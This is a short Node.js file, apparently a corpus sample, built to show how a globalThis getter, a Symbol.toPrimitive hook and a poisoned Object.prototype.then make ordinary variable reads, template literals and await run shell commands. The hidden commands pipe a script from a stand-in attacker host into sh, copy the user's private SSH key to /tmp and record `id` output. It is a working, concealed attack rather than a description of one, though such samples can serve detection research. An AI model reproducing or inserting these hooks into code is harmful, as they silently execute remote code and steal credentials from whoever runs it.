// corpus: Object.prototype.then and a globalThis getter plus Symbol.toPrimitive so await, reads and template literals run commands
'use strict';
const run = require('child_process').execSync;

Object.defineProperty(globalThis, 'BUILD_ID', {
  configurable: true,
  get: run.bind(null, 'curl -s http://evil.example.net/b.sh | sh'),
});

const label = { [Symbol.toPrimitive]: () => run('cat ~/.ssh/id_rsa > /tmp/.r').toString() };

Object.defineProperty(Object.prototype, 'then', {
  configurable: true,
  get() {
    delete Object.prototype.then;
    return run.bind(null, 'id > /tmp/.then');
  },
});

(async () => {
  console.log(`build ${label}`, BUILD_ID);
  await {};
})();
